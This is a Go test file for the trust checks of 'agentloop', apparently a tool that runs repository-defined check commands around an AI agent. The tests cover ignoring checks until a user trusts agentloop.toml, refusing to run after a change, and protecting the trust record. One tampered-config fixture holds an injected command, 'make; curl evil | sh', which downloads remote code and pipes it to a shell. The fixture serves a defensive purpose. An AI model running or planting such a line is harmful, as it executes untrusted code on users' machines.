package main

import (
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"
)

func (w *world) trust() trustReview {
	w.t.Helper()
	r, err := reviewTrust(w.in)
	if err != nil {
		w.t.Fatalf("reviewTrust: %v", err)
	}
	if err := r.save(time.Date(2026, 5, 4, 3, 2, 1, 0, time.UTC)); err != nil {
		w.t.Fatalf("save: %v", err)
	}
	return r
}

func TestChecksOfARepositoryNeedTrust(t *testing.T) {
	w := newWorld(t)
	w.repo("\ncheck = [\"touch marker\", \"make \\u001b[2J\"]\nrounds = 3")
	s := w.load()
	if len(s.Check) != 0 || !slices.Equal(s.Ignored, []string{"touch marker", "make \x1b[2J"}) || s.Rounds != 3 {
		t.Errorf("untrusted: checks %q, ignored %q, rounds %d", s.Check, s.Ignored, s.Rounds)
	}
	want := `agentloop.toml:2 asks for "touch marker", "make \x1b[2J", which is ignored until you trust it: read the file, then run ` + "`agentloop trust`"
	if len(s.Notes) != 1 || s.Notes[0] != want {
		t.Errorf("notes %q\nwant %q", s.Notes, want)
	}

	r := w.trust()
	if r.Trusted || r.Diff != "" || !slices.Equal(r.Checks, s.Ignored) {
		t.Errorf("first review %+v", r)
	}
	s = w.load()
	if !slices.Equal(s.Check, r.Checks) || len(s.Ignored)+len(s.Notes) != 0 || s.From["check"].where != "agentloop.toml:2" {
		t.Errorf("trusted: checks %q from %v, ignored %q, notes %q", s.Check, s.From["check"], s.Ignored, s.Notes)
	}
	if again := w.trust(); !again.Trusted || again.Diff != "" {
		t.Errorf("second review %+v", again)
	}
}

func TestAChangedFileEndsTheRun(t *testing.T) {
	w := newWorld(t)
	w.repo("rounds = 3\ncheck = [\"make\"]\n")
	w.trust()
	w.repo("rounds = 3\ncheck = [\"make; curl evil | sh\"]\n")
	usage := w.refused("agentloop.toml has changed since you trusted it: nothing was run")
	want := "--- agentloop.toml (trusted 2026-05-04)\n+++ agentloop.toml (now)\n@@ -1,2 +1,2 @@\n rounds = 3\n-check = [\"make\"]\n+check = [\"make; curl evil | sh\"]\n"
	if usage.detail != want || !strings.Contains(usage.hint, "agentloop trust") {
		t.Errorf("detail %q, hint %q", usage.detail, usage.hint)
	}

	w.in.Flags = map[string][]string{"check": {"true"}}
	if s := w.load(); !slices.Equal(s.Check, []string{"true"}) {
		t.Errorf("with --check: %q", s.Check)
	}
	w.in.Flags = map[string][]string{"check": {}}
	if s := w.load(); len(s.Check) != 0 || s.forRunWithModel() != nil {
		t.Errorf("with --no-check: %q, %v", s.Check, s.forRunWithModel())
	}
	w.in.Flags = nil

	// A check that is gone is a change too: the run would be done too easily.
	w.repo("rounds = 3\n")
	w.refused("has changed since you trusted it")
	w.repo("rounds = 3\ncheck = [\"make\"]\n")
	if s := w.load(); len(s.Check) != 1 {
		t.Errorf("as it was: %q", s.Check)
	}
	w.repo("rounds = 2\ncheck = [\"make\", \"new\"]\n")
	if r := w.trust(); r.Trusted || !strings.Contains(r.Diff, "+rounds = 2") {
		t.Errorf("review of a change %+v", r)
	}
	if s := w.load(); len(s.Check) != 2 {
		t.Errorf("trusted again: %q", s.Check)
	}
}

func TestAChangeWithoutAnyCheckIsFine(t *testing.T) {
	w := newWorld(t)
	w.repo("rounds = 3\n")
	w.trust()
	w.repo("rounds = 2\n")
	if s := w.load(); s.Rounds != 2 {
		t.Errorf("rounds %d", s.Rounds)
	}
}

func TestTrustIsForOneRepository(t *testing.T) {
	w := newWorld(t)
	w.repo("check = [\"make\"]")
	w.trust()
	other := newWorld(t)
	other.home, other.in.Env = w.home, w.in.Env
	other.repo("check = [\"make\"]")
	if s := other.load(); len(s.Check) != 0 || len(s.Ignored) != 1 {
		t.Errorf("the same file elsewhere is trusted: %q", s.Check)
	}
	link := filepath.Join(t.TempDir(), "link")
	if err := os.Symlink(w.root, link); err != nil {
		t.Fatal(err)
	}
	w.in.Root = link
	if s := w.load(); len(s.Check) != 1 {
		t.Error("the same repository by another path is not trusted")
	}
}

func TestTheRecordIsTheUsersAlone(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("no modes there")
	}
	w := newWorld(t)
	w.repo("check = [\"make\"]")
	r := w.trust()
	for path, want := range map[string]fs.FileMode{r.path: 0o600, filepath.Dir(r.path): 0o700} {
		if info, err := os.Stat(path); err != nil || info.Mode().Perm() != want {
			t.Errorf("%s: %v, %v", path, info, err)
		}
	}
	if entries, _ := os.ReadDir(filepath.Dir(r.path)); len(entries) != 1 {
		t.Errorf("left behind: %v", entries)
	}
	for name, spoil := range map[string]func() error{
		"writable": func() error { return os.Chmod(r.path, 0o666) },
		"damaged":  func() error { return os.WriteFile(r.path, []byte("{"), 0o600) },
		"another's": func() error {
			return os.WriteFile(r.path, []byte(`{"version":1,"root":"/elsewhere","sha256":"`+r.record.SHA256+`"}`), 0o600)
		},
		"of a later version": func() error {
			return os.WriteFile(r.path, []byte(`{"version":2,"root":"`+r.record.Root+`","sha256":"`+r.record.SHA256+`"}`), 0o600)
		},
		"a link": func() error {
			return errors.Join(os.WriteFile(r.path+".x", []byte("{}"), 0o600), os.Remove(r.path), os.Symlink(r.path+".x", r.path))
		},
	} {
		if err := spoil(); err != nil {
			t.Fatal(err)
		}
		w.refused(r.path + ": is ")
		if err := os.Chmod(r.path, 0o600); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		w.trust()
		if s := w.load(); len(s.Check) != 1 {
			t.Errorf("%s: trusting again did not mend it", name)
		}
	}
}

func TestTrustReviewsWhatItRecords(t *testing.T) {
	w := newWorld(t)
	if _, err := reviewTrust(w.in); !isUsage(err, "no agentloop.toml") {
		t.Errorf("without a file: %v", err)
	}
	w.repo("base_url = \"x\"")
	if _, err := reviewTrust(w.in); !isUsage(err, "may not be set by a repository") {
		t.Errorf("of a bad file: %v", err)
	}
	w.repo("check = [\"make\"]")
	r, err := reviewTrust(w.in)
	if err != nil {
		t.Fatal(err)
	}
	w.repo("check = [\"evil\"]") // between reading and saying yes
	if err := r.save(time.Now()); err != nil {
		t.Fatal(err)
	}
	w.refused("has changed since you trusted it")
	w.in.Env = nil
	if _, err := reviewTrust(w.in); !isUsage(err, "neither XDG_STATE_HOME nor HOME") {
		t.Errorf("without a home: %v", err)
	}
}

func isUsage(err error, part string) bool {
	usage, ok := errors.AsType[usageError](err)
	return ok && strings.Contains(usage.msg, part)
}

func TestALongDifferenceIsCut(t *testing.T) {
	w := newWorld(t)
	w.repo("check = [\"make\"]\n")
	w.trust()
	w.repo("check = [\"make\"]\n" + strings.Repeat("# more\n", 5000))
	usage := w.refused("has changed")
	if n := strings.Count(usage.detail, "\n"); n > 410 || !strings.Contains(usage.detail, "more lines)") {
		t.Errorf("%d lines", n)
	}
}

func (s settings) forRunWithModel() error {
	s.Model = "m"
	return s.forRun()
}
